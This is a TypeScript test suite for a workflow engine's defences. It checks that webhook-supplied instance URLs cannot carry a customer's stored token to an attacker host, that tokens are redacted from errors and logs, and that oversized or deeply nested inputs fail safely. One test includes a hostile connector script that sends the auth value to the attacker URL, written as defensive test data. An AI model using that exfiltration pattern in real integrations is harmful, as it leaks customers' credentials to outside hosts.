import { createServer } from "node:http";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { database } from "@/db/client";
import { startSandboxProvider, type SandboxProvider } from "@/e2e/providers/sandbox";
import { connectorDefinitionSchema } from "@/lib/auth-methods/definition";
import { cycleOf } from "@/lib/cycles/data";
import { createCycle } from "@/lib/cycles/mutations";
import { mappingInputSchema, type NewStep } from "@/lib/cycles/schema";
import { createTestWorld, type TestWorld } from "@/lib/demo/testing";
import { closeScripts } from "@/lib/scripts/pool";
import { addStep, saveStepSetup } from "@/lib/steps/mutations";
import { MAX_ITEMS } from "./constants";
import { transactionOf } from "./data";
import { startEngine, startPass } from "./engine";
import { planOf } from "./plan";
import type { TransactionView } from "./types";

const TOKEN = "customers-own-token-8c1f55";
let world: TestWorld;
let attacker: SandboxProvider;
let stop: () => Promise<void>;
const me = () => world.northwind.account;

beforeAll(async () => {
  world = await createTestWorld();
  attacker = await startSandboxProvider({ port: 0 });
});
afterAll(async () => {
  await closeScripts();
  await attacker.close();
  await world.close();
});
beforeEach(async () => {
  attacker.control.clearLog();
  stop = await startEngine();
});
afterEach(() => stop());

const value = <T>(result: { ok: true; value: T } | { ok: false; error: { message: string } }): T => {
  if (!result.ok) throw new Error(result.error.message);
  return result.value;
};

/** Runs a cycle of one step with what its webhook brings. Out: the transaction as it ended. */
async function run(
  step: Partial<NewStep>,
  payload: unknown,
  mapped: readonly [string, string, string][] = [],
): Promise<TransactionView> {
  const { id } = value(await createCycle(me(), { name: `Hostile ${Math.random()}`, description: null, trigger: "Webhook" }));
  const trigger = (await cycleOf(me(), id))?.steps[0]?.id ?? "";
  const made = value(
    await addStep(me(), id, {
      kind: "Action",
      name: "Call",
      errorAction: "StopTransaction",
      ...step,
      after: { stepId: trigger, exit: "Forward" },
    }),
  );
  const mappings = mapped.map(([kind, name, typed]) =>
    mappingInputSchema.parse({ kind, name, mappingType: "StaticValue", value: typed }),
  );
  value(await saveStepSetup(me(), id, made.id, { mappings, step: {} }));
  const plan = value(await planOf({ partnerId: me().partnerId, accountId: me().accountId, cycleId: id }));
  const transaction = await startPass(plan, "Webhook", payload);
  for (let n = 0; n < 800; n += 1) {
    const view = await transactionOf(me(), transaction);
    if (view?.endedAt != null) return view;
    await new Promise((resolve) => setTimeout(resolve, 10));
  }
  throw new Error("the run did not end");
}

describe("S-41 a run that brings the address of an instance", () => {
  /** A connector whose address comes with its token, authenticated with the customer's own token. */
  async function instance(slug: string, script?: string): Promise<number> {
    const { definition } = await world.connector("sandbox-crm-oauth");
    await world.define(
      connectorDefinitionSchema.parse({
        ...definition,
        ...(script === undefined ? {} : { script }),
        slug,
        baseUrl: "{{instance_url}}",
        parameters: [
          { name: "instance_url", title: "Instance URL", source: "tokenResponse", path: "instance_url", format: "uri" },
        ],
      }),
    );
    await world.setUp(world.northwind, slug, { client_id: "keyway-sandbox", client_secret: "sandbox-secret-7Qw2mX" });
    return world.install(world.northwind, slug, {
      name: slug,
      credential: { accessToken: TOKEN },
      properties: [{ kind: "set", name: "instance_url", value: world.sandbox.url, isSecret: false }],
    });
  }
  const brings: [string, string, string] = ["Authentication", "InstanceUrl", "{{trigger.url}}"];

  it("takes the connector's own token nowhere: nothing is sent, and the step says why", async () => {
    const crm = await instance("instance-alone");
    const view = await run({ accountConnectorId: crm, methodId: "list-contacts" }, { url: attacker.url }, [brings]);
    expect(view.status).toBe("Failed");
    expect(view.error).toMatchObject({ code: "egress.blocked", owner: "policy" });
    expect(attacker.control.log()).toEqual([]);
  });

  it("nor does a script of the step take it there", async () => {
    const crm = await instance(
      "instance-script",
      `function before_action() {
        http_request({ method: "GET", url: "${attacker.url}/api/contacts", headers: { Authorization: "Bearer x" + method_auth_value } });
        return true;
      }`,
    );
    const view = await run({ accountConnectorId: crm, methodId: "list-contacts" }, { url: attacker.url }, [brings]);
    expect(view.status).toBe("Failed");
    expect(JSON.stringify(attacker.control.log())).not.toContain(TOKEN);
  });

  it("with a token of its own is called there", async () => {
    const crm = await instance("instance-and-token");
    const own: [string, string, string] = ["Authentication", "AccessToken", "{{trigger.token}}"];
    await run({ accountConnectorId: crm, methodId: "list-contacts" }, { url: attacker.url, token: "brought-along-77e0" }, [
      brings,
      own,
    ]);
    expect(attacker.control.log().map((call) => call.headers.authorization)).toEqual(["Bearer brought-along-77e0"]);
  });
});

describe("a webhook that brings a very long list", () => {
  it("fails with the number in its message, before anything runs for its entries", async () => {
    const items = Array.from({ length: MAX_ITEMS + 1 }, () => 1);
    const crm = await world.install(world.northwind, "sandbox-crm-api-key", {
      credential: { apiKey: "sk_sandbox_acme_4f9a1c2e" },
    });
    const view = await run({ accountConnectorId: crm, methodId: "get-contact", collectionSplitType: "All" }, { items }, [
      ["Parameter", "id", "{{trigger.[items]}}"],
    ]);
    expect(view.status).toBe("Failed");
    expect(view.error).toMatchObject({ code: "request.too_large" });
    expect(view.error?.message).toContain(String(MAX_ITEMS + 1));
  });
});

describe("S-14 a credential that a run brings", () => {
  const key: [string, string, string] = ["Authentication", "ApiKey", "{{trigger.token}}"];
  const installed = () => world.install(world.northwind, "sandbox-crm-api-key", { name: `C ${Math.random()}`, credential: {} });
  const dump = () => JSON.stringify(database().rawReader.prepare("select * from transactions").all());

  it("isn't quoted in part by the reason why a body isn't JSON", async () => {
    for (const rawBody of ['{ "a": {{trigger.token}} x }', "[{{trigger.token}}, x]", "[{{trigger.token}},\n x]"]) {
      const step = { accountConnectorId: await installed(), methodId: "create-contact", rawBody };
      const view = await run(step, { token: "tok_4b1dd0aa93" }, [key]);
      expect(view.error?.message).toMatch(/^The body of this step isn't JSON: /);
      expect(JSON.stringify(view)).not.toMatch(/tok_4b|aa93/);
    }
  });

  it("is replaced without its scheme and its spaces as well, wherever else it came", async () => {
    const payload = { token: " Bearer tok_77ce01f2b9 ", again: "tok_77ce01f2b9", also: { x: ["Bearer tok_77ce01f2b9"] } };
    const view = await run({ accountConnectorId: await installed(), methodId: "who-am-i" }, payload, [key]);
    expect(JSON.stringify(view)).not.toContain("tok_77ce01f2b9");
    expect(dump()).not.toContain("tok_77ce01f2b9");
  });

  it("in an answer that nests without end ends the step like any other answer", async () => {
    const deep = "[".repeat(100_000) + "]".repeat(100_000);
    const server = createServer((_request, response) =>
      response.writeHead(200, { "content-type": "application/json" }).end(deep),
    );
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const { definition } = await world.connector("sandbox-crm-api-key");
    const baseUrl = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
    await world.define(connectorDefinitionSchema.parse({ ...definition, slug: "nests", baseUrl }));
    const id = await world.install(world.northwind, "nests", { name: "Nests", credential: {} });
    const view = await run({ accountConnectorId: id, methodId: "who-am-i" }, { token: "tok_nests_0001" }, [key]);
    server.close();
    expect(view).toMatchObject({ status: "Completed", error: null });
    expect(view.steps[0]?.output).toEqual({ text: deep });
  });
});
